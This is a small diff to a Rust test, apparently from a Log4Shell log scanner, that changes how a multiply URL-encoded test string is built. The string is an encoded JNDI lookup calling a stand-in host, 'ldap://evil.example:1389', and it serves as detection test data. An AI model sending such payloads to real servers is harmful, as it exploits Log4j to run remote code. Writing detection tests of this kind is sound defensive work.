@@ -298,7 +298,7 @@ fn multiple_url_encoding_with_every_character_encoded() {
     let once = encode_all(PAYLOAD);
     let twice = encode_all(&once);
     let thrice = encode_all(&twice);
-    let mixed = format!("%25%32%34%25%37%42jndi:ldap://evil.example:1389/a%7D");
+    let mixed = "%25%32%34%25%37%42jndi:ldap://evil.example:1389/a%7D".to_owned();
     let dir = tempfile::tempdir().unwrap();
     let mut text = String::from(
         "10.0.0.9 - - [11/Dec/2021:10:00:00 +0100] \"GET /?q=%25%25%25 HTTP/1.1\" 404 0\n",
